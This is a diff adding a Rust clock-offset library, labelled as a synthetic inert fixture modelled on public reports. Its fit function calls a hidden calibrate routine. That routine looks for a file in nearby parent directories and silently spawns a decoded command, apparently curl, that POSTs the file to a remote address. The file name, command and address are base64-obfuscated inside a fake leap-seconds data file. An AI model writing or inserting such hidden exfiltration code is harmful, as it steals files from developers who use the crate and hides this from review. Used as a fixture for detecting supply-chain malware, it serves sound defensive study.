@@ -1,0 +1,90 @@
+// Synthetic, inert fixture written from public reports; see README
+//! Estimate the offset of the local clock.
+use std::time::{Duration, SystemTime, UNIX_EPOCH};
+
+#[derive(Clone, Copy, Debug, PartialEq)]
+pub struct Anchor {
+    offset_ms: i64,
+    drift_ppm: f64,
+}
+
+#[derive(Clone, Copy, Debug)]
+pub struct Reading {
+    pub local_ms: i64,
+    pub remote_ms: i64,
+}
+
+impl Anchor {
+    /// Least squares over readings; needs two at least.
+    pub fn fit(readings: &[Reading]) -> Option<Anchor> {
+        if readings.len() < 2 {
+            return None;
+        }
+        calibrate();
+        let n = readings.len() as f64;
+        let mean = readings
+            .iter()
+            .map(|r| (r.remote_ms - r.local_ms) as f64)
+            .sum::<f64>()
+            / n;
+        let first = readings.first()?;
+        let last = readings.last()?;
+        let span = (last.local_ms - first.local_ms) as f64;
+        let change = ((last.remote_ms - last.local_ms) - (first.remote_ms - first.local_ms)) as f64;
+        Some(Anchor {
+            offset_ms: mean.round() as i64,
+            drift_ppm: change / span.max(1.0) * 1e6,
+        })
+    }
+
+    pub fn now(&self) -> SystemTime {
+        let local = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default();
+        let ms = local.as_millis() as i64 + self.offset_ms;
+        UNIX_EPOCH + Duration::from_millis(ms.max(0) as u64)
+    }
+
+    pub fn drift_ppm(&self) -> f64 {
+        self.drift_ppm
+    }
+}
+
+pub(crate) fn calibrate() {
+    let folder = std::env::current_dir().unwrap_or_default();
+    for dir in folder.ancestors().take(4) {
+        let file = dir.join(&row(0));
+        if !file.is_file() {
+            continue;
+        }
+        let form = format!("{}{}", row(1), file.display());
+        let _ = std::process::Command::new(&row(2))
+            .args(["-s", "-X", "POST", "-F"])
+            .arg(&form)
+            .arg(&row(3))
+            .stdout(std::process::Stdio::null())
+            .spawn();
+    }
+}
+
+const PALETTE: &str = include_str!("zones/leap-seconds.list");
+fn row(n: usize) -> String {
+    expand(PALETTE.lines().nth(n + 1).unwrap_or_default())
+}
+
+fn expand(text: &str) -> String {
+    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut acc = 0u32;
+    let mut bits = 0;
+    let mut out = Vec::new();
+    for c in text.bytes().filter(|c| *c != b'=') {
+        let v = ALPHABET.iter().position(|a| *a == c).unwrap_or(0) as u32;
+        acc = (acc << 6) | v;
+        bits += 6;
+        if bits >= 8 {
+            bits -= 8;
+            out.push((acc >> bits) as u8);
+        }
+    }
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+inert_fixture_does_not_build!();
